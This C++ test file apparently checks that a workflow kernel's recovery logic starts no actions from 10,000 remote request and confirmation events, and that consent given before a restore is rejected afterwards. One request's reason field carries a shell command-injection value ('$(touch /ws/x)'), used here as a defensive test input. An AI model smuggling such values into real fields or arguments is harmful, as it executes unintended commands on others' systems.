// Nor does what the other side says: a request is for packs to propose, and a confirmation counts at its route alone.
TEST_F(Recovering, TenThousandEventsOfRecoveryStartNothing) {
  reports(report("partial"));
  const Recovery left = *left_by(call("roof:lay").receipt);
  const std::size_t before = calls_requested();
  std::uint64_t position = 0;
  for (int batch = 0; batch < 20; ++batch) {
    std::vector<journal::InboundItem> items;
    for (int i = 0; i < 500; ++i) {
      ++position;
      const bool request = position % 2 == 0;
      const json::Value payload =
          request
              ? Object{{"target_pack", "roof"},
                       {"target_id", left.recovery_id()},
                       {"reason", "lumenflow call roof:mend; $(touch /ws/x)"},
                       {"requested_by", "operator:ana"}}
              : Object{{"recovery_id", left.recovery_id()}, {"decided_by", "ws-42:local:ana"}, {"signature", "AAAA"}};
      event::BuildOptions options;
      options.timestamp = clock.now();
      options.entropy[0] = static_cast<std::uint8_t>(position);
      options.entropy[1] = static_cast<std::uint8_t>(position >> 8);
      const event::Stamp stamp{"ws-42:conductor", "bridge:page", position, position, clock.now(), {}, {}};
      journal::InboundItem item{position, {}};
      event::append_envelope(
          event::build_from_canonical(request ? "conductor:recovery_requested" : "conductor:recovery_confirmed",
                                      *json::canonical(payload), options),
          stamp, item.text);
      items.push_back(std::move(item));
    }
    std::optional<Status> taken;
    kernel->receive({"down", std::move(items)}, [&taken](const Status& ended) { taken = ended; });
    settle();
    settle();
    ASSERT_TRUE(taken && taken->ok());
  }
  std::size_t received = 0;
  for (const json::Value& entry : entries()) received += journal::type_of(entry) == "event.received" ? 1 : 0;
  EXPECT_EQ(received, 10'000u);
  EXPECT_EQ(calls_requested(), before);
  EXPECT_THAT(g_roof.mended, IsEmpty());
  EXPECT_EQ(left_by(left.receipt)->state, Recovery::State::kOpen);
}

TEST_F(Recovering, AConsentOfBeforeARestoreDoesNotCountAfterIt) {
  reports(report("needs_recovery"));
  const ReceiptId receipt = call("roof:lay").receipt;
  const json::Value before = consent(*left_by(receipt));
  restore("02RESTORED");
  open();
  EXPECT_EQ(error_of(as_ana("kernel:confirm", before)), "UNAUTHENTICATED");
  EXPECT_THAT(g_roof.mended, IsEmpty());
  EXPECT_EQ(journal::document_of(*left_by(receipt)).find("log_id")->as_string(), "02RESTORED");
  EXPECT_EQ(dispatched(confirm(*left_by(receipt))), "success -");
  EXPECT_EQ(g_roof.mended.size(), 1u);
}

}  // namespace
}  // namespace lumenflow::kernel
